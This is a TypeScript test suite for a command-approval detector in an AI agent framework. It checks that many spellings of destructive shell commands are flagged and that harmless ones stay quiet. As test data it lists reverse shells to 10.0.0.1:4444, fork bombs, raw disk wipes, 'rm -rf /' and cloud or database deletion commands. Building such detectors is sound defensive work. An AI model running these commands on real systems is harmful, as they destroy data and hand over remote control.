/**
 * The same destructive operation spelled another way must be rated as it is
 * spelled plainly: options quoted or abbreviated as getopt allows, placed
 * after other options or behind git's own, handed over in an array or the
 * positional parameters; and deleting through programs whose own command
 * deletes (rsync --delete, cmake -E, ninja -t clean). Ordinary use of the
 * same programs stays quiet.
 */
import { describe, expect, it } from "@effect/vitest"
import { D, HL } from "../../../src/layers/approval/detect/descriptions.js"
import type { DetectionEnv } from "../../../src/layers/approval/detect/detect.js"
import { detectCommand } from "../../../src/layers/approval/detect/detect.js"

const AGENT: DetectionEnv = { home: "/home/agent", hermesHome: "/home/agent/.hermes-effect", env: {} }
const dangerous = (command: string) => detectCommand(command, AGENT).description
const RESET = "git reset --hard (destroys uncommitted changes)"
const CLEAN = "git clean with force (deletes untracked files)"
const PUSH = "git force push (rewrites remote history)"
const BRANCH = "git branch force delete"

const expectTable = (rows: ReadonlyArray<readonly [string, string]>) => {
  for (const [command, description] of rows) expect([command, dangerous(command)]).toEqual([command, description])
}
const expectQuiet = (commands: ReadonlyArray<string>) => {
  for (const command of commands) expect([command, dangerous(command)]).toEqual([command, null])
}

describe("git's destructive operations, however the line is arranged", () => {
  it("behind git's own options, with the flag anywhere among the subcommand's", () => {
    expectTable([
      ["git -C repo reset --hard", RESET],
      ["git --git-dir=.git --work-tree=. reset --hard", RESET],
      ["git reset -q --hard", RESET],
      ["git reset HEAD~3 --hard", RESET],
      ["git reset '--hard'", RESET],
      ["git -c core.pager=cat clean -f", CLEAN],
      ["git clean -d -f", CLEAN],
      ["git clean -x -d --force .", CLEAN],
      ["git --no-pager clean -ffdx", CLEAN],
      ["git -C repo push --force", PUSH],
      ["git push -uf origin main", "git force push short flag (rewrites remote history)"],
      ["git -C repo branch -D topic", BRANCH],
      ["git branch -v -D topic", BRANCH]
    ])
  })

  it("clean without -f (requireForce can be off), pushes that force or delete through their refspecs", () => {
    expectTable([
      ["git clean -dx", CLEAN],
      ["git -c clean.requireForce=false clean -d", CLEAN],
      ["git push origin +main", PUSH],
      ["git push origin :old-branch", PUSH],
      ["git push --delete origin topic", PUSH],
      ["git push --mirror backup", PUSH],
      ["git push --prune origin", PUSH]
    ])
  })

  it("work thrown away as reset --hard throws it: forced checkout or switch, dropped stashes, expired reflogs", () => {
    expectTable([
      ["git checkout -f", D.gitDiscard],
      ["git -C repo checkout --force main", D.gitDiscard],
      ["git switch --discard-changes main", D.gitDiscard],
      ["git stash drop", D.gitDiscard],
      ["git stash clear", D.gitDiscard],
      ["git reflog expire --expire=now --all", D.gitDiscard],
      ["git worktree remove --force ../wt", D.gitDiscard]
    ])
  })

  it("long options abbreviated as git's parse-options takes them", () => {
    expectTable([
      ["git branch --del --forc x", BRANCH],
      ["git branch --delete x", BRANCH],
      ["git push origin --del old", PUSH],
      ["git push --mirr backup", PUSH],
      ["git push --pru origin", PUSH],
      ["git checkout --forc main", D.gitDiscard],
      ["git switch --discard main", D.gitDiscard],
      ["git worktree remove --forc ../wt", D.gitDiscard]
    ])
  })

  it("paths restored over uncommitted work: the whole tree, a directory, a glob; refs deleted by hand; history rewritten", () => {
    expectTable([
      ["git checkout .", D.gitDiscard],
      ["git checkout -- .", D.gitDiscard],
      ["git checkout HEAD -- src/", D.gitDiscard],
      ["git checkout -- '*.py'", D.gitDiscard],
      ["git checkout :/", D.gitDiscard],
      ["git restore .", D.gitDiscard],
      ["git restore -s HEAD~2 -- src/", D.gitDiscard],
      ["git restore --staged --worktree .", D.gitDiscard],
      ["git restore -SW .", D.gitDiscard],
      ["git update-ref -d refs/heads/main", D.gitDiscard],
      ["git filter-branch --tree-filter 'rm -f x' HEAD", D.gitDiscard],
      ["git filter-repo --path secrets --invert-paths", D.gitDiscard]
    ])
    expectQuiet([
      "git restore --staged .", "git restore -S .", "git restore -S -- src/", "git restore file.py", "git checkout -- file.py", "git checkout HEAD~1 file.py", "git checkout -",
      "git checkout -b feat .", "git update-ref refs/heads/x HEAD", "git filter-repo --analyze", "git log -- .", "git diff -- src/"
    ])
  })

  it("everyday git stays quiet", () => {
    expectQuiet([
      "git status", "git -C repo log --oneline", "git push origin main", "git push -u origin feature", "git push origin HEAD:refs/for/main",
      "git push --dry-run", "git clean -n", "git clean -nd", "git clean --dry-run -x", "git checkout main", "git checkout -b feat",
      "git checkout -- file.py", "git switch -c x", "git stash", "git stash pop", "git stash list", "git reflog", "git branch -a",
      "git branch --sort=-committerdate", "git reset --soft HEAD~1", "git reset HEAD file.py", "git reset --help",
      "git commit -m 'reset --hard'", "git worktree remove wt"
    ])
  })
})

describe("options quoted, abbreviated, or handed over in an array", () => {
  it("a quoted option is the same option", () => {
    expectTable([
      ["rm '-rf' build", "recursive delete"],
      ["rm \"-r\" build", "recursive delete"],
      ["rm '--recursive' build", "recursive delete (long flag)"],
      ["rm -f -r build", "recursive delete"],
      ["rm -f build -R", "recursive delete"],
      ["rm -i --rec build", "recursive delete (long flag)"],
      ["chmod '777' /etc/passwd", "world/other-writable permissions"],
      ["find . '-delete'", "find -delete"]
    ])
    // Quoted prose stays prose.
    expectQuiet(["echo '-rf'", "git commit -m 'rm'", "grep -r 'rm' .", "ls '-la' src", "rm -f build.log", "rm -- -r"])
  })

  it("getopt's abbreviations of long options that delete", () => {
    expectTable([
      ["tar -cf a.tar --remove-f src", D.removeAfter],
      ["tar -cf a.tar --rem src", D.removeAfter],
      ["zip -r --mo a.zip src", D.removeAfter],
      ["rsync -a --remove-source src/ dst/", D.removeAfter],
      ["tar -xf a.tar --recursive-unl", D.syncDelete],
      ["tar -xf a.tar --recursive-unlink", D.syncDelete]
    ])
    expectQuiet(["tar -cf a.tar --recursion src", "tar -xf a.tar --record-size=512", "zip -r a.zip src"])
  })

  it("a deleting program's arguments from an array or the positional parameters", () => {
    expectTable([
      ["set -- -rf; rm \"$@\" build", D.untrackedArguments],
      ["a=(-rf build); rm \"${a[@]}\"", D.untrackedArguments],
      ["rm -- \"${files[0]}\"", D.untrackedArguments],
      ["set -e -- -delete; find . \"$@\"", D.untrackedArguments]
    ])
    // A function's "$@" is the call's arguments: the call is judged with them (here: quiet, then recursive).
    expectQuiet([
      "files=(a.txt b.txt); echo \"${files[@]}\"", "for f in *.tmp; do rm \"$f\"; done", "tmp=$(mktemp); rm -f \"$tmp\"",
      "view() { /bin/rm \"$@\"; }", "clean() { rm -f \"$@\"; }; clean a.o b.o"
    ])
    expect(dangerous("clean() { rm -f \"$@\"; }; clean -r build")).toBe("recursive delete")
  })
})

describe("programs whose own command deletes", () => {
  it("rsync --delete, rclone, cmake -E, gio, trash, ninja -t clean, find -ok", () => {
    expectTable([
      ["rsync -a --delete empty/ target/", D.syncDelete],
      ["rsync -r --del src/ dst/", D.syncDelete],
      ["rsync -a --delete-after --exclude=.git src/ dst/", D.syncDelete],
      ["rclone sync src remote:dst", D.syncDelete],
      ["rclone purge remote:old", D.toolDelete],
      ["cmake -E remove_directory build", D.toolDelete],
      ["cmake -E remove -f a.o", D.toolDelete],
      ["gio trash notes", D.toolDelete],
      ["gio remove notes.txt", D.toolDelete],
      ["trash-put notes", D.toolDelete],
      ["ninja -t clean", D.toolDelete],
      ["ninja -C build -t cleandead", D.toolDelete],
      ["yes | find . -name '*.o' -ok rm {} \\;", "find -exec/-execdir rm"],
      ["find . -okdir rm {} \\;", "find -exec/-execdir rm"]
    ])
    expectQuiet(["rsync -av src/ dst/", "rclone copy src remote:dst", "cmake -E copy a b", "cmake -E make_directory build", "gio info x", "ninja -t targets", "ninja -C build"])
  })

  it("deleting programs, run directly or fetched by a package runner", () => {
    expectTable([
      ["rimraf dist", D.toolDelete],
      ["npx rimraf node_modules", D.toolDelete],
      ["npx --yes rimraf@5 dist", D.toolDelete],
      ["npm exec -- rimraf dist", D.toolDelete],
      ["npm x rimraf dist", D.toolDelete],
      ["pnpm dlx rimraf dist", D.toolDelete],
      ["pnpm exec rimraf dist", D.toolDelete],
      ["yarn rimraf dist", D.toolDelete],
      ["yarn dlx rimraf dist", D.toolDelete],
      ["bunx rimraf dist", D.toolDelete],
      ["bun x del-cli dist", D.toolDelete],
      ["npx -p rimraf rimraf dist", D.toolDelete],
      ["srm -r old", D.toolDelete],
      ["wipe -rf old", D.toolDelete]
    ])
    expectQuiet(["npx prettier --write .", "npm exec tsc", "yarn build", "pnpm dlx create-vite app", "bunx eslint .", "rimraf --help"])
  })

  it("a device node replaced by a file moved or linked onto it", () => {
    expectTable([
      ["mv notes /dev/null", D.replaceDevice],
      ["mv -f a b /dev/tty", D.replaceDevice],
      ["mv -t /dev/ null", D.replaceDevice],
      ["mv null /dev/", D.replaceDevice],
      ["ln -sf notes /dev/null", D.replaceDevice],
      ["install notes /dev/zero", D.replaceDevice]
    ])
    expectQuiet(["mv a /dev/shm/a", "cp a /dev/null", "ln -s a /dev/null", "mv a b", "install -m 644 a /usr/local/share/x"])
  })
})

describe("modes that let others write, however they are written", () => {
  const WORLD = "world/other-writable permissions"
  it("octal with leading digits, other digits for others, symbolic classes and copies, mkdir/install modes, ACLs, umask", () => {
    for (const command of [
      "chmod 0777 f", "chmod 00666 f", "chmod 757 f", "chmod 2777 d", "chmod 1777 d", "chmod a=rwx f", "chmod ugo+rwx f",
      "chmod u=rwx,go=rwx f", "chmod go+w f", "chmod o=rwx f", "chmod o=u f", "chmod -R go+w d", "chmod --reference=/tmp f",
      "mkdir -m 777 d", "mkdir -m777 d", "mkdir --mode=a+w d", "install -d -m 0777 d", "mkfifo -m 666 p",
      "setfacl -m o::rwx f", "setfacl -m d:o::rwx d", "setfacl --modify=other::rw- f", "umask 000", "umask 0", "umask o+w"
    ]) {
      expect([command, dangerous(command)]).toEqual([command, WORLD])
    }
    expectQuiet([
      "chmod 755 f", "chmod 0644 f", "chmod 1755 d", "chmod u+x f", "chmod +w f", "chmod -w f", "chmod go-w f", "chmod a-w f",
      "chmod -R u+rwX,go+rX d", "chmod o+t d", "mkdir -p d", "mkdir -m 700 d", "install -m 755 a /tmp/b",
      "setfacl -m u:bob:rw f", "setfacl -m o::r-x f", "umask", "umask 022", "umask 002", "umask -S"
    ])
  })
})

describe("CMake code the gate does not read", () => {
  it("a script, a configure, ctest's dashboard scripts; a build of a configured tree and cmake's tools do not run project code", () => {
    expectTable([
      ["cmake -P wipe.cmake", D.opaqueCode],
      ["cmake -S . -B build", D.opaqueCode],
      ["cmake ..", D.opaqueCode],
      ["cmake --preset dev", D.opaqueCode],
      ["cmake --regenerate-during-build -S . -B build", D.opaqueCode],
      ["ctest -S dashboard.cmake", D.opaqueCode],
      ["ctest -D Experimental", D.opaqueCode]
    ])
    expectQuiet(["cmake --build build", "cmake --build build --target install", "cmake --install build", "cmake --version", "cmake -E echo hi", "ctest -N", "ctest --output-on-failure"])
  })
})

describe("hardline operations spelled another way stay hardline", () => {
  const hardline = (command: string) => detectCommand(command, AGENT).hardline_description

  it("kill of every process, whatever the signal's spelling and wherever -1 stands", () => {
    for (const command of ["kill -s 9 -1", "kill -s KILL -1", "kill -n 9 -1", "kill -1", "kill -TERM -1", "kill -9 -- -1", "kill 1234 -1", "killall5 -9", "kill '-9' '-1'"]) {
      expect([command, hardline(command)]).toEqual([command, "kill all processes"])
    }
    for (const command of ["kill -9 1234", "kill -l", "kill %1", "kill -s TERM 4321"]) expect([command, hardline(command)]).toEqual([command, null])
  })

  it("every process killed by name: a pattern matching any name, or pkill -v", () => {
    for (const command of ["pkill -9 .", "pkill -f ''", "pkill -9 -f '.*'", "pkill -v python", "killall -r '.*'", "killall -9 -r .", "pkill -u bob '^'"]) {
      expect([command, hardline(command)]).toEqual([command, "kill all processes"])
    }
    for (const command of ["pkill python", "pkill -f 'node server.js'", "killall firefox", "pkill -u bob node", "killall -r 'fire.*'"]) {
      expect([command, hardline(command)]).toEqual([command, null])
    }
  })

  it("pid 1 sent a signal that reboots, powers off or halts it, or ends a container's init", () => {
    for (const command of ["kill 1", "kill -INT 1", "kill -s SIGRTMIN+15 1", "kill -SIGRTMIN+4 1", "kill -n 2 1", "kill -9 1", "kill -TERM 1", "kill --signal=38 1"]) {
      expect([command, hardline(command)]).toEqual([command, "system shutdown/reboot"])
    }
    for (const command of ["kill -HUP 1", "kill -0 1", "kill -USR1 1", "kill 12345", "kill -9 1234"]) expect([command, hardline(command)]).toEqual([command, null])
  })

  it("block devices by every name: device mapper, udev links, RAID, LVM, network and loop devices", () => {
    const rows: ReadonlyArray<readonly [string, string]> = [
      ["dd if=/dev/zero of=/dev/mapper/root", "dd to raw block device"], ["dd if=/dev/zero of=/dev/disk/by-id/ata-x", "dd to raw block device"],
      ["dd if=/dev/zero of=/dev/md0", "dd to raw block device"], ["dd if=/dev/zero of=/dev/dm-0", "dd to raw block device"],
      ["dd if=/dev/zero of=/dev/vg0/root", "dd to raw block device"], ["dd if=x of=/dev/root", "dd to raw block device"],
      ["dd of=/dev/nbd0 if=x", "dd to raw block device"], ["cat x > /dev/mapper/root", "redirect to raw block device"],
      ["cp x /dev/disk/by-uuid/abc", HL.diskWrite], ["wipefs -a /dev/mapper/vg-root", HL.diskWrite], ["mkswap /dev/dm-1", HL.diskWrite]
    ]
    for (const [command, description] of rows) expect([command, hardline(command)]).toEqual([command, description])
    for (const command of ["echo x > /dev/fd/1", "echo hi > /dev/tty", "echo x > /dev/shm/x", "echo x > /dev/pts/0", "cat /dev/mapper/root > img", "dd if=/dev/sda of=backup.img", "dd if=x of=/dev/null"]) {
      expect([command, hardline(command)]).toEqual([command, null])
    }
  })

  it("a fork bomb without a pipe: a function calling itself twice, one call in the background", () => {
    for (const command of ["f(){ f & f; }; f", "f(){ f& f& }; f", "boom() { boom & boom & wait; }; boom"]) {
      expect([command, hardline(command)]).toEqual([command, "fork bomb"])
    }
    for (const command of ["f(){ f; f; }; f", "retry() { sleep 1; retry & }; true", "f(){ echo a & echo b; }; f"]) {
      expect([command, hardline(command)]).toEqual([command, null])
    }
  })

  it("busybox and toybox applets are the programs they name", () => {
    const rows: ReadonlyArray<readonly [string, string]> = [
      ["busybox reboot", "system shutdown/reboot"], ["toybox poweroff -f", "system shutdown/reboot"],
      ["busybox mkfs.ext2 /dev/sda1", "format filesystem (mkfs)"], ["busybox dd if=/dev/zero of=/dev/sda", "dd to raw block device"],
      ["busybox kill -9 -1", "kill all processes"], ["busybox rm -rf /", "recursive delete of root filesystem"]
    ]
    for (const [command, description] of rows) expect([command, hardline(command)]).toEqual([command, description])
    for (const command of ["busybox --list", "busybox ls -la", "toybox echo hi"]) expect([command, detectCommand(command, AGENT).dangerous]).toEqual([command, false])
  })

  it("a raw disk formatted, partitioned, wiped or overwritten by any tool, not only mkfs and dd", () => {
    for (const command of [
      "wipefs -a /dev/sda", "blkdiscard /dev/nvme0n1", "sgdisk --zap-all /dev/sda", "parted -s /dev/sda mklabel gpt", "sfdisk /dev/sda < t",
      "mkswap /dev/sda1", "cryptsetup luksFormat /dev/sda", "mke2fs /dev/sda1", "cp x.img /dev/sdb", "tee /dev/sda < x", "shred /dev/sda",
      "sgdisk --zap-all --print /dev/sda", "fdisk /dev/sda < layout", "mke2fs -t ext4 /dev/sda1"
    ]) {
      expect([command, hardline(command)]).toEqual([command, HL.diskWrite])
    }
    for (const command of [
      "cp /dev/sda1 backup.img", "parted -l", "parted /dev/sda print", "fdisk -l /dev/sda", "sfdisk -d /dev/sda", "wipefs /dev/sda",
      "wipefs disk.img", "sgdisk -p /dev/sda", "mke2fs -n /dev/sda1", "nvme smart-log /dev/nvme0n1", "hdparm -I /dev/sda",
      "cryptsetup luksDump /dev/sda2", "badblocks -sv /dev/sda"
    ]) {
      expect([command, hardline(command)]).toEqual([command, null])
    }
  })
})

describe("shells wired to the network, services stopped through other front ends", () => {
  it("reverse and bind shells take commands the gate never sees", () => {
    expectTable([
      ["nc -e /bin/sh 10.0.0.1 4444", D.networkShell],
      ["nc -lvnp 4444 -e /bin/bash", D.networkShell],
      ["ncat --sh-exec 'bash' 10.0.0.1 4444", D.networkShell],
      ["busybox nc 10.0.0.1 4444 -e sh", D.networkShell],
      ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", D.networkShell],
      ["exec 3<>/dev/udp/10.0.0.1/53", D.networkShell],
      ["socat exec:'bash -li',pty tcp:10.0.0.1:4444", D.networkShell],
      ["socat TCP:10.0.0.1:4444 EXEC:sh", D.networkShell]
    ])
    expectQuiet(["nc -zv localhost 80", "nc -l 8080", "socat - tcp:localhost:80", "curl localhost:8080"])
  })

  it("service and rc-service stop or restart a service as systemctl does", () => {
    expectTable([
      ["service sshd stop", "stop/restart system service"],
      ["sudo service nginx restart", "stop/restart system service"],
      ["rc-service nginx stop", "stop/restart system service"]
    ])
    expectQuiet(["service nginx status", "service --status-all"])
  })
})

describe("infrastructure and service data destroyed", () => {
  it("cloud, cluster, container engine and database commands that delete ask; listing, planning and dry runs do not", () => {
    for (const command of [
      "terraform destroy -auto-approve", "terraform -chdir=infra apply -destroy", "tofu state rm aws_instance.x",
      "kubectl -n prod delete pod x", "kubectl delete ns prod", "helm uninstall app", "docker system prune -af", "docker volume rm data",
      "docker rm -f web", "podman system reset", "aws s3 sync . s3://b --delete", "aws s3 rb s3://b --force",
      "aws --region us-east-1 rds delete-db-instance --db-instance-identifier x", "aws ec2 terminate-instances --instance-ids i-1",
      "gcloud compute instances delete vm1", "az group delete -n rg", "gsutil rb gs://b", "redis-cli -n 2 FLUSHDB", "dropdb prod",
      "mongosh app --eval 'db.dropDatabase()'", "mongosh --eval 'db.users.deleteMany({})'", "mongo --eval 'db.users.drop()'"
    ]) {
      expect([command, dangerous(command)]).toEqual([command, D.infraDelete])
    }
    expectQuiet([
      "terraform plan", "terraform apply", "kubectl get pods", "kubectl delete pod x --dry-run=client", "helm list", "docker ps", "docker rm x",
      "aws s3 ls", "aws s3 cp a s3://b/a", "gcloud projects list", "redis-cli get x",
      "mongosh --eval 'db.users.find()'", "mongosh --eval 'db.users.deleteMany({active: false})'"
    ])
  })
})

describe("names xargs and find fill in when the command runs", () => {
  it("are values only known then: an operand for unlink, a program name for xargs -I{} {}", () => {
    expectTable([
      ["echo notes.txt | xargs unlink", D.unlink],
      ["find . -name '*.log' -execdir unlink {} +", D.unlink],
      ["echo app.log | xargs truncate -s 0", D.truncate],
      ["ls | xargs -I{} {} -rf build", "command name computed at run time"]
    ])
    expectQuiet(["find . -name '*.py' -exec wc -l {} +", "find . -name '*.sh' | xargs chmod +x", "git ls-files | xargs git add", "ls | xargs -I{} echo {}"])
  })
})
